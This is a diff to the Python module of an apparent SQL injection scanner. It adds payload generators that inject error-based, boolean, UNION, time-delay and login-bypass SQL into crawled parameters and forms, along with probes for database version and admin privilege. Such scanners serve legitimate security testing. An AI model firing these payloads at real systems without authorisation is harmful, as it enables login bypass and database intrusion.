@@ -1,4 +1,6 @@
 import asyncio
+import functools
+import heapq
 import uuid
 import aiohttp
 import logging
@@ -6,23 +8,52 @@ import time
 import socket
 import re
 import os
+import statistics
 import hashlib
 import json
+import orjson
 import tempfile
-from typing import List, Dict, Any, Optional, Set, Tuple
-from urllib.parse import urlparse, urljoin, parse_qs, urlencode, urlunparse
+from typing import List, Dict, Any, Optional, Set, Tuple, Callable
+from urllib.parse import ParseResult, urlparse, urljoin, parse_qs, urlencode, urlunparse, quote_plus
 from datetime import datetime
 import random
 from bs4 import BeautifulSoup
+from cachetools import TTLCache
 from collections import defaultdict
 import traceback
 
+# Optional Aho-Corasick automaton (pyahocorasick) for multi-keyword scans
+try:
+    import ahocorasick
+    AHOCORASICK_AVAILABLE = True
+except ImportError:
+    AHOCORASICK_AVAILABLE = False
+
+# Optional NumPy for vectorised response comparison
+try:
+    import numpy as np
+    NUMPY_AVAILABLE = True
+except ImportError:
+    NUMPY_AVAILABLE = False
+
+# Optional lxml parser backend for BeautifulSoup - falls back to html.parser
+try:
+    import lxml  # noqa: F401
+    HTML_PARSER = "lxml"
+except ImportError:
+    HTML_PARSER = "html.parser"
+
 # Import shared crawler utility
 from ..utils.crawler import IntelligentCrawler, generate_url_fingerprint
+from .sql_error_matcher import get_sql_error_matcher
 
 logging.basicConfig(level=logging.INFO, format='%(asctime)s - %(levelname)s - %(message)s')
 logger = logging.getLogger(__name__)
 
+# Upper bound on how much of a response body is read; error messages and
+# forms appear well before this, and huge pages only slow down matching
+MAX_RESPONSE_BYTES = 1024 * 1024
+
 def extract(url):
     """
     Extract domain from URL.
@@ -37,6 +68,619 @@ def extract(url):
     domain = parsed_url.netloc
     return domain
 
+# DBMS fingerprints from error messages (based on Wapiti's approach), one
+# case-insensitive alternation per family, in the order they are checked
+DBMS_ERROR_SIGNATURES = tuple(
+    (dbms, re.compile("|".join(f"(?:{p})" for p in patterns), re.IGNORECASE))
+    for dbms, patterns in (
+        ("MySQL", (
+            r"sql syntax.*mysql",
+            r"warning.*mysql",
+            r"mysql.*error",
+            r"MySQLSyntaxErrorException",
+            r"valid MySQL result",
+            r"check the manual that (corresponds to|fits) your MySQL server version",
+            r"MySqlClient\."
+        )),
+        ("MariaDB", (
+            r"check the manual that (corresponds to|fits) your MariaDB server version",
+        )),
+        ("PostgreSQL", (
+            r"postgresql.*error",
+            r"PostgreSQL.*?ERROR",
+            r"ERROR:\s\ssyntax error at or near",
+            r"ERROR: parser: parse error at or near",
+            r"PostgreSQL query failed"
+        )),
+        ("Microsoft SQL Server", (
+            r"microsoft.*database",
+            r"microsoft.*driver",
+            r"microsoft.*server",
+            r"microsoft.* sql",
+            r"Driver.*? SQL[\-\_\ ]*Server",
+            r"OLE DB.*? SQL Server",
+            r"\bSQL Server[^&lt;&quot;]+Driver",
+            r"\[SQL Server\]",
+            r"ODBC SQL Server Driver"
+        )),
+        ("Oracle", (
+            r"oracle.*error",
+            r"oracle.*driver",
+            r"ora-[0-9]",
+            r"\bORA-\d{5}",
+            r"Oracle error"
+        )),
+        ("SQLite", (
+            r"sqlite.*error",
+            r"sqlite.*syntax",
+            r"SQLite/JDBCDriver",
+            r"SQLite\.Exception",
+            r"\[SQLITE_ERROR\]"
+        )),
+        ("SQL Database", (
+            r"sql syntax.*error",
+            r"syntax error.*sql",
+            r"sql command.*not properly ended",
+            r"sqlexception",
+            r"sqlstate",
+            r"unclosed.*mark"
+        ))
+    )
+)
+
+@functools.lru_cache(maxsize=4096)
+def _parse_url(url: str) -> ParseResult:
+    """
+    urlparse for scan-target URLs, cached because each target is parsed by
+    several checks. ParseResult is immutable, so sharing it is safe.
+    """
+    return urlparse(url)
+
+
+@functools.lru_cache(maxsize=256)
+def _encoded_query(url: str) -> Tuple[str, Tuple[Tuple[str, str], ...]]:
+    """
+    Parse a target URL once into its base URL and pre-encoded query parameters.
+    
+    Returns (base_url, ((key, "key=value[&key=value2]"), ...)) with keys in
+    first-seen order, matching what urlencode(parse_qs(query), doseq=True) emits.
+    """
+    parsed_url = _parse_url(url)
+    base_url = urlunparse((
+        parsed_url.scheme,
+        parsed_url.netloc,
+        parsed_url.path,
+        parsed_url.params,
+        '',
+        ''  # No fragment
+    ))
+    encoded_params = tuple(
+        (key, urlencode({key: values}, doseq=True))
+        for key, values in parse_qs(parsed_url.query).items()
+    )
+    return base_url, encoded_params
+
+
+@functools.lru_cache(maxsize=1024)
+def _payload_injector(url: str, param_name: str) -> Callable[[str], str]:
+    """
+    Return inject(payload) -> URL with payload as the value of param_name.
+    
+    Specialised per (URL, parameter): the query text before and after the
+    target parameter is joined once, so an injection is one quote_plus and
+    two string concatenations.
+    """
+    base_url, encoded_params = _encoded_query(url)
+    keys = [key for key, _ in encoded_params]
+    position = keys.index(param_name) if param_name in keys else len(keys)
+    before = [chunk for _, chunk in encoded_params[:position]]
+    after = [chunk for _, chunk in encoded_params[position + 1:]]
+    
+    prefix = f"{base_url}?" + "".join(chunk + "&" for chunk in before) + quote_plus(param_name) + "="
+    suffix = "".join("&" + chunk for chunk in after)
+    
+    def inject(payload: str) -> str:
+        return prefix + quote_plus(payload) + suffix
+    
+    return inject
+
+
+@functools.lru_cache(maxsize=1024)
+def _error_sqli_payloads(path: str, param_name: str, param_value: str) -> Tuple[str, ...]:
+    """
+    Build the error-based payload list for one (path, parameter, value) context.
+    
+    The selection is deterministic, so it is cached: the same parameter seen on
+    many crawled URLs or forms sharing a path is only assembled once.
+    """
+    payloads = []
+    
+    # Detect if the URL suggests a specific database or framework
+    is_php = '.php' in path
+    is_asp = '.asp' in path or '.aspx' in path
+    is_jsp = '.jsp' in path or '.do' in path
+    
+    # Parameter name hints
+    param_hints = PARAM_HINT_MATCHER.categories(param_name)
+    is_id_param = "id" in param_hints
+    is_search_param = "search" in param_hints
+    is_user_param = "user" in param_hints
+    
+    # Parameter value hints 
+    is_numeric = param_value.isdigit()
+    is_string = not is_numeric and len(param_value) > 0
+    
+    # Basic tests that work across all databases
+    basic_payloads = [
+        "'"
+        "\"",
+        "\\",
+        "`;",
+        "'--",
+        "\"%",
+        "';"
+    ]
+    payloads.extend(basic_payloads)
+    
+    # Add SQL syntax error tests (most reliable for error-based detection)
+    payloads.extend([
+        f"{param_value}'",
+        f"{param_value}\"",
+        f"{param_value}')",
+        f"{param_value}\")",
+        f"{param_value}'))",
+        f"{param_value}\"))",
+        f"{param_value}';",
+        f"{param_value}\";"
+    ])
+    
+    # Add more sophisticated payloads for different database types
+    # MySQL specific tests
+    if is_php or not (is_asp or is_jsp):  # PHP often uses MySQL
+        mysql_payloads = [
+            f"{param_value}' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT(version(),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) AND '1'='1",
+            f"{param_value}' AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT(0x7e,(SELECT version()),0x7e,FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a) AND '1'='1",
+            f"{param_value}' AND extractvalue(1, concat(0x7e, (SELECT @@version))) AND '1'='1",
+            f"{param_value}' AND updatexml(1, concat(0x7e, (SELECT @@version)), 1) AND '1'='1"
+        ]
+        payloads.extend(mysql_payloads)
+    
+    # SQL Server specific tests
+    if is_asp:  # ASP often uses SQL Server
+        mssql_payloads = [
+            f"{param_value}' AND 1=CONVERT(int,(SELECT @@version)) AND '1'='1",
+            f"{param_value}';IF 1=1 WAITFOR DELAY '0:0:1'--",
+            f"{param_value}' AND 1=db_name()--",
+            f"{param_value}' AND 1=(SELECT CAST(@@version as int))--"
+        ]
+        payloads.extend(mssql_payloads)
+    
+    # PostgreSQL specific tests
+    if any(x in path for x in ['/api', '/data']):  # APIs often use PostgreSQL
+        postgres_payloads = [
+            f"{param_value}' AND 1=cast(version() as int) AND '1'='1",
+            f"{param_value}' AND 1=cast(current_database() as int) AND '1'='1",
+            f"{param_value}' AND 1=(SELECT current_database()) AND '1'='1"
+        ]
+        payloads.extend(postgres_payloads)
+    
+    # Oracle specific tests
+    if any(x in path for x in ['/apex', '/ords', '/pls']):  # Oracle-specific paths
+        oracle_payloads = [
+            f"{param_value}' AND 1=UTL_INADDR.GET_HOST_NAME('invalid') AND '1'='1",
+            f"{param_value}' AND 1=CTXSYS.DRITHSX.SN(1,1) AND '1'='1",
+            f"{param_value}' AND 1=(SELECT banner FROM v$version WHERE rownum=1) AND '1'='1"
+        ]
+        payloads.extend(oracle_payloads)
+    
+    # Specific payloads based on parameter type
+    if is_id_param and is_numeric:
+        # Numeric ID parameters are most vulnerable to SQL injection
+        id_payloads = [
+            f"{param_value} AND 1=0 UNION ALL SELECT 1,2,3--",
+            f"{param_value} AND 1=0 UNION ALL SELECT null,null,null--",
+            f"{param_value}+1",
+            f"(SELECT 1 FROM dual WHERE 1=1)",
+            f"1 OR 1=1"
+        ]
+        payloads.extend(id_payloads)
+    
+    if is_search_param:
+        # Search parameters often vulnerable to LIKE-based injections
+        search_payloads = [
+            f"{param_value}%' AND 1=0 UNION ALL SELECT 1,2,3--",
+            f"{param_value}' UNION SELECT 1,2,3--",
+            f"{param_value}%%' AND 1=1--"
+        ]
+        payloads.extend(search_payloads)
+    
+    if is_user_param:
+        # User-related parameters often use additional validation
+        user_payloads = [
+            f"{param_value}' OR '1'='1",
+            f"{param_value}' OR 'x'='x",
+            f"{param_value}' OR username LIKE '%",
+            f"{param_value}' /**/OR/**/1=1--"
+        ]
+        payloads.extend(user_payloads)
+    
+    # Add UNION-based probes that often cause errors
+    payloads.extend([
+        f"{param_value}' UNION ALL SELECT 1--",
+        f"{param_value}' UNION ALL SELECT 1,2--",
+        f"{param_value}' UNION ALL SELECT 1,2,3--"
+    ])
+    
+    # Filter out duplicates and limit to a reasonable number to avoid too many requests
+    unique_payloads = list(dict.fromkeys(payloads))  # Preserves order
+    
+    # Prioritize based on the parameter type (e.g., numeric IDs first)
+    if is_id_param and is_numeric:
+        unique_payloads = sorted(unique_payloads, key=lambda x: 0 if param_value in x and "UNION" in x else 1)
+    
+    return tuple(unique_payloads[:30])  # Limit to 30 payloads maximum
+
+
+@functools.lru_cache(maxsize=1024)
+def _boolean_test_payloads(param_value: str) -> Tuple[Dict[str, Any], ...]:
+    """
+    Build the randomised true/false boolean payload set for one parameter value.
+    
+    The random operands are drawn once per value and reused, so the same value
+    seen on many URLs or forms does not rebuild and re-randomise the set.
+    """
+    payloads = []
+    
+    # For each test, create both a true and false variant
+    # Test with different quote styles and parentheses combinations
+    for use_parenthesis in (False, True):
+        for separator in ("", "'", "\""):
+            # Generate random numbers for the test conditions
+            for _ in range(2):  # Create 2 negative tests
+                value1 = random.randint(10, 99)
+                value2 = random.randint(10, 99) + value1  # Ensure different values
+                padding_value = random.randint(10, 99)
+                
+                # Format string with or without parentheses
+                if use_parenthesis:
+                    fmt_string = f"{param_value}{separator}) AND {value1}={value2} AND ({separator}{padding_value}{separator}={separator}{padding_value}"
+                else:
+                    fmt_string = f"{param_value}{separator} AND {value1}={value2} AND {separator}{padding_value}{separator}={separator}{padding_value}"
+                
+                # This should evaluate to false and not change the page
+                payloads.append({
+                    "payload": fmt_string,
+                    "expected_result": False,
+                    "type": "boolean"
+                })
+            
+            # Generate random numbers for true conditions
+            for _ in range(2):  # Create 2 positive tests
+                value1 = random.randint(10, 99)
+                padding_value = random.randint(10, 99)
+                
+                # Format string with or without parentheses
+                if use_parenthesis:
+                    fmt_string = f"{param_value}{separator}) AND {value1}={value1} AND ({separator}{padding_value}{separator}={separator}{padding_value}"
+                else:
+                    fmt_string = f"{param_value}{separator} AND {value1}={value1} AND {separator}{padding_value}{separator}={separator}{padding_value}"
+                
+                # This should evaluate to true and maintain the original page
+                payloads.append({
+                    "payload": fmt_string,
+                    "expected_result": True,
+                    "type": "boolean"
+                })
+    
+    return tuple(payloads)
+
+
+@functools.lru_cache(maxsize=1024)
+def _literal_re(text: str) -> re.Pattern:
+    """Case-insensitive regex for a literal string, compiled once per distinct string."""
+    return re.compile(re.escape(text), re.IGNORECASE)
+
+
+def _count_equal_chars(str1: str, str2: str) -> int:
+    """Count positions where two strings hold the same character (zip semantics)."""
+    length = min(len(str1), len(str2))
+    if NUMPY_AVAILABLE:
+        # UTF-32 gives one fixed-width code unit per character, so the
+        # comparison runs over whole code points in NumPy's C loop. Only the
+        # compared prefixes are encoded; frombuffer then wraps those bytes
+        # without a further copy
+        a = np.frombuffer(str1[:length].encode("utf-32-le", "surrogatepass"), dtype=np.uint32)
+        b = np.frombuffer(str2[:length].encode("utf-32-le", "surrogatepass"), dtype=np.uint32)
+        return int(np.count_nonzero(a == b))
+    return sum(1 for c1, c2 in zip(str1, str2) if c1 == c2)
+
+
+def _orjson_dumps(obj: Any) -> str:
+    """json.dumps replacement for aiohttp's json_serialize hook."""
+    return orjson.dumps(obj).decode("utf-8")
+
+
+async def _read_capped(response: aiohttp.ClientResponse, cap: int = MAX_RESPONSE_BYTES) -> str:
+    """Read and decode at most cap bytes of a response body."""
+    # StreamReader.read(n) returns whatever is buffered, so keep reading
+    # until the cap is reached or the body ends
+    chunks = []
+    remaining = cap
+    while remaining > 0:
+        chunk = await response.content.read(remaining)
+        if not chunk:
+            break
+        chunks.append(chunk)
+        remaining -= len(chunk)
+    raw = b"".join(chunks)
+    try:
+        return raw.decode(response.charset or "utf-8", errors="ignore")
+    except LookupError:
+        # Unknown charset advertised by the server
+        return raw.decode("utf-8", errors="ignore")
+
+
+class KeywordMatcher:
+    """
+    Report which keyword categories occur in a string with a single pass.
+    
+    Uses a pyahocorasick automaton when available, otherwise an overlapping
+    regex alternation over the same (lowercase) keywords.
+    """
+    
+    def __init__(self, keywords: Dict[str, Tuple[str, ...]]):
+        self._categories = defaultdict(set)
+        for category, words in keywords.items():
+            for word in words:
+                self._categories[word].add(category)
+        
+        if AHOCORASICK_AVAILABLE:
+            self._automaton = ahocorasick.Automaton()
+            for word, categories in self._categories.items():
+                self._automaton.add_word(word, frozenset(categories))
+            self._automaton.make_automaton()
+            self._regex = None
+        else:
+            self._automaton = None
+            # Lookahead makes matches overlap, e.g. both "user" and "id" in "user_id"
+            words = sorted(self._categories, key=len, reverse=True)
+            self._regex = re.compile("(?=(" + "|".join(re.escape(w) for w in words) + "))")
+    
+    def categories(self, text: str) -> Set[str]:
+        """Return the set of categories whose keywords appear in text (case-insensitive)."""
+        hits = set()
+        if not text:
+            return hits
+        text = text.lower()
+        if self._automaton is not None:
+            for _, categories in self._automaton.iter(text):
+                hits.update(categories)
+        else:
+            for match in self._regex.finditer(text):
+                hits.update(self._categories[match.group(1)])
+        return hits
+
+
+# Parameter-name hints used when choosing error-based payloads
+PARAM_HINT_MATCHER = KeywordMatcher({
+    "id": ("id", "num", "code", "key"),
+    "search": ("search", "query", "find", "filter"),
+    "user": ("user", "name", "email", "login", "account")
+})
+
+# URL hints for the likely backend DBMS, checked in this priority order
+URL_DBMS_HINTS = ("mysql", "mssql", "oracle", "postgresql")
+URL_DBMS_MATCHER = KeywordMatcher({
+    "mysql": ("php", "mysql"),
+    "mssql": ("asp", "mssql"),
+    "oracle": ("jsp", "oracle"),
+    "postgresql": ("postgresql", "pgsql")
+})
+
+# Query parameter names used by _prioritize_urls to rank URLs
+HIGH_RISK_PARAMS = (
+    'id', 'user_id', 'item_id', 'product_id', 'post_id', 'article_id', 'page_id', 'news_id', 'category_id',
+    'cat_id', 'action_id', 'material_id', 'section_id', 'module_id', 'record_id', 'profile_id', 
+    'file_id', 'ticket_id', 'message_id', 'thread_id', 'topic_id', 'group_id', 'event_id', 
+    'type', 'uid', 'pid', 'tid', 'gid', 'sid', 'lid', 'cid'
+)
+SEARCH_PARAMS = (
+    'search', 'query', 'q', 'filter', 'keyword', 'find', 'lookup', 'term', 'terms', 'key',
+    'where', 'criteria', 'condition', 'search_for', 'searchterm', 'search_query',
+    'pattern', 'contains', 'name', 'title'
+)
+AUTH_PARAMS = (
+    'username', 'user', 'email', 'login', 'account', 'pass', 'pin', 'auth', 'memberid',
+    'customer', 'member', 'admin'
+)
+
+ID_PARAM_RE = re.compile(r'[?&](' + '|'.join(HIGH_RISK_PARAMS) + r')=\d+', re.IGNORECASE)
+SEARCH_PARAM_RE = re.compile(r'[?&](' + '|'.join(SEARCH_PARAMS) + r')=', re.IGNORECASE)
+AUTH_PARAM_RE = re.compile(r'[?&](' + '|'.join(AUTH_PARAMS) + r')=', re.IGNORECASE)
+NUMERIC_PATH_RE = re.compile(r'/\d+(?:/|$)')
+RISKY_PARAM_RE = re.compile(r'(?:id|user|search|query)=', re.IGNORECASE)
+
+# Path suffixes and segments that raise or drop a URL's scan priority
+VULNERABLE_EXTENSIONS = ('.php', '.asp', '.aspx', '.jsp', '.do', '.action', '.cgi')
+VULNERABLE_ENDPOINTS = (
+    'admin', 'login', 'user', 'account', 'profile', 'product', 
+    'item', 'search', 'api', 'query', 'report', 'view', 'show',
+    'display', 'backend', 'dashboard', 'control', 'panel', 'manage',
+    'list', 'catalog', 'category', 'cart', 'order', 'shop', 'store'
+)
+VULNERABLE_ENDPOINT_RE = re.compile("|".join(VULNERABLE_ENDPOINTS))
+STATIC_EXTENSIONS = (
+    '.jpg', '.jpeg', '.png', '.gif', '.bmp', '.ico', '.svg',  # Images
+    '.css', '.js', '.json', '.xml',  # Web assets
+    '.pdf', '.doc', '.docx', '.xls', '.xlsx', '.ppt', '.pptx',  # Documents
+    '.zip', '.rar', '.tar', '.gz', '.7z',  # Archives
+    '.mp3', '.mp4', '.avi', '.mov', '.mkv', '.flv',  # Media
+    '.ttf', '.woff', '.woff2', '.eot',  # Fonts
+)
+
+# Parameter names that get extra ID / auth-bypass payloads
+ID_PARAM_NAMES = frozenset(('id', 'uid', 'user_id', 'item_id', 'product_id'))
+AUTH_PARAM_NAMES = frozenset(('username', 'user', 'email', 'login', 'password', 'pass'))
+
+# The payloads themselves; they do not depend on the parameter value
+ID_PARAM_PAYLOADS = (
+    "1 OR 1=1",
+    "1) OR (1=1",
+    "-1 UNION SELECT 1,2,3--",
+    "' OR '1'='1' ORDER BY 1--"
+)
+AUTH_PARAM_PAYLOADS = (
+    "admin'--",
+    "admin' OR '1'='1",
+    "admin')--",
+    "admin') OR ('1'='1",
+    "' OR 1=1 LIMIT 1;--"
+)
+
+# Form field types that are tested for injection
+INJECTABLE_FIELD_TYPES = frozenset(('text', 'hidden', 'password', 'search', 'number', 'email', 'tel', 'url', ''))
+DYNAMIC_FIELD_TYPES = frozenset(('text', 'hidden', 'password', 'search', 'number'))
+
+# UNION payloads used to read the DBMS version once error-based SQLi is confirmed
+DBMS_VERSION_PAYLOADS = {
+    "MySQL": (
+        "{value}' UNION SELECT @@version,NULL,NULL-- ",
+        "{value}' UNION SELECT version(),NULL,NULL-- "
+    ),
+    "PostgreSQL": (
+        "{value}' UNION SELECT version(),NULL,NULL-- ",
+        "{value}' UNION SELECT current_setting('server_version'),NULL,NULL-- "
+    ),
+    "Microsoft SQL Server": (
+        "{value}' UNION SELECT @@version,NULL,NULL-- ",
+        "{value}' UNION SELECT SERVERPROPERTY('productversion'),NULL,NULL-- "
+    ),
+    "Oracle": (
+        "{value}' UNION SELECT banner FROM v$version WHERE rownum=1,NULL,NULL FROM dual-- ",
+        "{value}' UNION SELECT banner,NULL,NULL FROM v$version WHERE rownum=1-- "
+    ),
+    "SQLite": (
+        "{value}' UNION SELECT sqlite_version(),NULL,NULL-- ",
+    ),
+    "": (  # Generic, DB type unknown
+        "{value}' UNION SELECT NULL,NULL,NULL-- ",
+        "{value}' UNION SELECT 1,2,3-- "
+    )
+}
+
+# Follow-up payloads probing for administrative privileges, per DBMS;
+# {value} is replaced with the parameter's original value
+ADMIN_PRIVILEGE_PAYLOADS = {
+    "MySQL": (
+        "{value}' AND (SELECT super_priv FROM mysql.user WHERE user=current_user()) = 'Y'-- ",
+    ),
+    "PostgreSQL": (
+        "{value}' AND (SELECT current_setting('is_superuser')) = 'on'-- ",
+    ),
+    "Microsoft SQL Server": (
+        "{value}' AND (SELECT IS_SRVROLEMEMBER('sysadmin')) = 1-- ",
+    )
+}
+
+# Time-based blind payload templates per database; {delay} is the sleep in seconds
+# and {blob} the RANDOMBLOB size, so the same template also yields a zero-delay control
+TIME_BASED_PAYLOADS = {
+    "mysql": (
+        "{value}' AND SLEEP({delay}) -- ",
+        "{value}\" AND SLEEP({delay}) -- ",
+        "{value}') AND SLEEP({delay}) -- ",
+        "{value}\") AND SLEEP({delay}) -- ",
+        "{value} AND SLEEP({delay}) -- "
+    ),
+    "postgresql": (
+        "{value}' AND (SELECT pg_sleep({delay})) -- ",
+        "{value}\" AND (SELECT pg_sleep({delay})) -- ",
+        "{value}') AND (SELECT pg_sleep({delay})) -- ",
+        "{value}\") AND (SELECT pg_sleep({delay})) -- ",
+        "{value} AND (SELECT pg_sleep({delay})) -- "
+    ),
+    "mssql": (
+        "{value}' WAITFOR DELAY '0:0:{delay}' -- ",
+        "{value}\" WAITFOR DELAY '0:0:{delay}' -- ",
+        "{value}') WAITFOR DELAY '0:0:{delay}' -- ",
+        "{value}\") WAITFOR DELAY '0:0:{delay}' -- ",
+        "{value} WAITFOR DELAY '0:0:{delay}' -- "
+    ),
+    "oracle": (
+        "{value}' AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) -- ",
+        "{value}\" AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) -- ",
+        "{value}') AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) -- ",
+        "{value}\") AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) -- ",
+        "{value} AND DBMS_PIPE.RECEIVE_MESSAGE('XYZ',{delay}) -- "
+    ),
+    "sqlite": (
+        "{value}' AND RANDOMBLOB({blob}) -- ",
+        "{value}\" AND RANDOMBLOB({blob}) -- ",
+        "{value}') AND RANDOMBLOB({blob}) -- ",
+        "{value}\") AND RANDOMBLOB({blob}) -- ",
+        "{value} AND RANDOMBLOB({blob}) -- "
+    )
+}
+SQLITE_HEAVY_BLOB = 100000000
+
+# Minimum extra seconds a heavy-query payload must take over the unmodified value
+HEAVY_QUERY_MIN_DELAY = 2.5
+
+# Time-based detection adapts to the host's measured latency: a delay must exceed
+# both this fraction of the injected sleep and RTT_DEVIATION_FACTOR * rttvar
+TIME_BASED_MIN_FRACTION = 0.7
+RTT_DEVIATION_FACTOR = 4
+# Timeout for delayed probes: srtt + 6 * rttvar + sleep, kept within these bounds
+TIME_BASED_TIMEOUT_FLOOR = 2.0  # seconds beyond the injected sleep
+TIME_BASED_TIMEOUT_CAP = 30.0
+# Plain requests timed once per host to measure network noise, and how many
+# standard deviations of that noise a delay must also exceed
+NETWORK_NOISE_SAMPLES = 5
+NETWORK_NOISE_FACTOR = 5
+
+# URL keywords that suggest an endpoint is worth the GraphQL / JSON API checks
+GRAPHQL_URL_RE = re.compile(r'graphql|query', re.IGNORECASE)
+JSON_API_URL_RE = re.compile(r'api|json|rest', re.IGNORECASE)
+
+# Cheap pre-check: a page without any field tags has nothing for _check_forms to test
+FORM_FIELD_TAG_RE = re.compile(r'<(?:input|textarea|select)\b', re.IGNORECASE)
+
+# Security tokens that must not be tampered with
+SECURITY_TOKEN_PARAMS = frozenset(('csrf', 'nonce', 'token'))
+SECURITY_FIELD_RE = re.compile(r'csrf|token|nonce|captcha', re.IGNORECASE)
+
+# Legitimate mentions of SQL that should not be read as leaked errors
+FALSE_POSITIVE_PATTERNS = tuple(re.compile(p, re.IGNORECASE) for p in (
+    r'SQL\s+tutorial',
+    r'SQL\s+database',
+    r'SQL\s+server',
+    r'learn\s+SQL',
+    r'SQL\s+query',
+    r'SQL\s+\d+',
+    r'SQL\s+basics',
+    r'SQL\s+examples?',
+    r'using\s+SQL',
+    r'about\s+SQL',
+    r'SQL\s+language',
+    r'SQL\s+course',
+    r'SQL\s+training'
+))
+SQL_DETAIL_RE = re.compile(r'(mysql|sqlstate|syntax|oracle|sql\s+server)', re.IGNORECASE)
+
+# Common version formats, tried in order when probing the DBMS version
+VERSION_PATTERNS = tuple(re.compile(p, re.IGNORECASE) for p in (
+    r'(\d+\.\d+\.\d+[\.\-\w]*)',  # General version format
+    r'mysql[\s-]*(ver\s*\d+(\.\d+)+|version[\s:]*\d+\.\d+(\.\d+)*)',  # MySQL
+    r'postgresql[\s-]*(ver\s*\d+\.\d+(\.\d+)*|version[\s:]*\d+\.\d+(\.\d+)*)',  # PostgreSQL
+    r'microsoft sql server[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)',  # MSSQL
+    r'oracle database[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)',  # Oracle
+    r'sqlite[\s\-]*(ver\s*\d+|version[\s:]*\d+(\.\d+)*)'  # SQLite
+))
+
+# Any of the above in one pass; most responses match none, and only those that
+# do are searched pattern by pattern to report the highest-priority match
+VERSION_ANY_RE = re.compile("|".join(f"(?:{p.pattern})" for p in VERSION_PATTERNS), re.IGNORECASE)
+
 class RateLimiter:
     """Rate limiter with dynamic adjustment based on server performance."""
     
@@ -63,6 +707,10 @@ class RateLimiter:
         self.consecutive_successes = defaultdict(int)
         self.performance_data = defaultdict(lambda: {"avg_response_time": 0.0, "error_rate": 0.0})
         
+        # Smoothed round-trip time and its mean deviation per domain (Jacobson/Karels)
+        self.srtt: Dict[str, float] = {}
+        self.rttvar: Dict[str, float] = {}
+        
         # Maximum rate limit (safety cap)
         self.max_rate_limit = rate_limit * 5.0
         
@@ -98,7 +746,7 @@ class RateLimiter:
                 self.last_request_time[domain] = current_time
                 return True
             else:
-                logger.debug(f"Rate limiting applied for domain: {domain}")
+                logger.debug("Rate limiting applied for domain: %s", domain)
                 return False
     
     async def wait_for_token(self, domain: Optional[str] = None):
@@ -121,7 +769,7 @@ class RateLimiter:
             if critical_errors > 0:
                 backoff_time *= (1 + 0.5 * min(5, critical_errors))  # Up to 3.5x longer backoff for critical errors
                 
-            logger.debug(f"Backing off for {backoff_time:.2f} seconds due to {self.consecutive_errors[domain]} consecutive errors")
+            logger.debug("Backing off for %.2f seconds due to %s consecutive errors", backoff_time, self.consecutive_errors[domain])
             await asyncio.sleep(backoff_time)
         
         # Try to acquire a token
@@ -162,13 +810,13 @@ class RateLimiter:
                 # Server responds quickly, increase rate limit
                 new_rate = min(self.max_rate_limit, self.domain_limits[domain] * 1.2)
                 if new_rate > self.domain_limits[domain]:
-                    logger.debug(f"Increasing rate limit for {domain} to {new_rate:.2f} req/s (fast responses)")
+                    logger.debug("Increasing rate limit for %s to %.2f req/s (fast responses)", domain, new_rate)
                     self.domain_limits[domain] = new_rate
             elif avg_time > 2.0:
                 # Server responds slowly, decrease rate limit
                 new_rate = max(self.min_rate_limit, self.domain_limits[domain] * 0.8)
                 if new_rate < self.domain_limits[domain]:
-                    logger.debug(f"Decreasing rate limit for {domain} to {new_rate:.2f} req/s (slow responses)")
+                    logger.debug("Decreasing rate limit for %s to %.2f req/s (slow responses)", domain, new_rate)
                     self.domain_limits[domain] = new_rate
     
     def report_error(self, domain: Optional[str] = None, error_type: str = "transient"):
@@ -199,7 +847,7 @@ class RateLimiter:
             # Significant reduction for critical errors or multiple consecutive errors
             reduction_factor = 0.5 if error_type == "critical" else 0.7
             new_rate = max(self.min_rate_limit, self.domain_limits[domain] * reduction_factor)
-            logger.debug(f"Reducing rate limit for {domain} to {new_rate:.2f} req/s due to {error_type} errors")
+            logger.debug("Reducing rate limit for %s to %.2f req/s due to %s errors", domain, new_rate, error_type)
             self.domain_limits[domain] = new_rate
             
         # Standard failure tracking
@@ -237,9 +885,43 @@ class RateLimiter:
             increase_factor = min(1.2, 1.0 + (self.consecutive_successes[domain] * 0.02))  # Up to 20% increase
             new_rate = min(self.rate_limit, self.domain_limits[domain] * increase_factor)
             if new_rate > self.domain_limits[domain]:
-                logger.debug(f"Increasing rate limit for {domain} to {new_rate:.2f} req/s after {self.consecutive_successes[domain]} consecutive successes")
+                logger.debug("Increasing rate limit for %s to %.2f req/s after %s consecutive successes", domain, new_rate, self.consecutive_successes[domain])
                 self.domain_limits[domain] = new_rate
     
+    def sample_rtt(self, domain: Optional[str] = None, response_time: float = 0.0):
+        """
+        Feed a round-trip time into the domain's smoothed RTT estimate.
+        
+        Only plain requests (baselines, controls, noise probes) should be
+        sampled; payload responses and deliberate delays would inflate it.
+        
+        Args:
+            domain: Domain to report for
+            response_time: Round-trip time in seconds
+        """
+        domain = domain or "default"
+        
+        # RFC 6298 gains: alpha = 1/8, beta = 1/4
+        if domain not in self.srtt:
+            self.srtt[domain] = response_time
+            self.rttvar[domain] = response_time / 2
+        else:
+            self.rttvar[domain] = 0.75 * self.rttvar[domain] + 0.25 * abs(self.srtt[domain] - response_time)
+            self.srtt[domain] = 0.875 * self.srtt[domain] + 0.125 * response_time
+    
+    def rtt_estimate(self, domain: Optional[str] = None) -> Tuple[float, float]:
+        """
+        Get the smoothed round-trip time and its deviation for a domain.
+        
+        Args:
+            domain: Domain to get the estimate for
+            
+        Returns:
+            (srtt, rttvar) in seconds; (0.0, 0.0) before any response was sampled
+        """
+        domain = domain or "default"
+        return self.srtt.get(domain, 0.0), self.rttvar.get(domain, 0.0)
+    
     def get_performance_data(self, domain: Optional[str] = None) -> Dict[str, float]:
         """
         Get performance data for a domain.
@@ -490,7 +1172,8 @@ class EnhancedSQLScanner:
         r"StatementCallback; bad SQL grammar"
     ]
 
-    def __init__(self, max_concurrent_requests=10, max_crawl_depth=3, scan_timeout=60):
+    def __init__(self, max_concurrent_requests=10, max_crawl_depth=3, scan_timeout=60,
+                 max_requests_per_host=None):
         """
         Initialize the enhanced SQL scanner.
         
@@ -498,9 +1181,12 @@ class EnhancedSQLScanner:
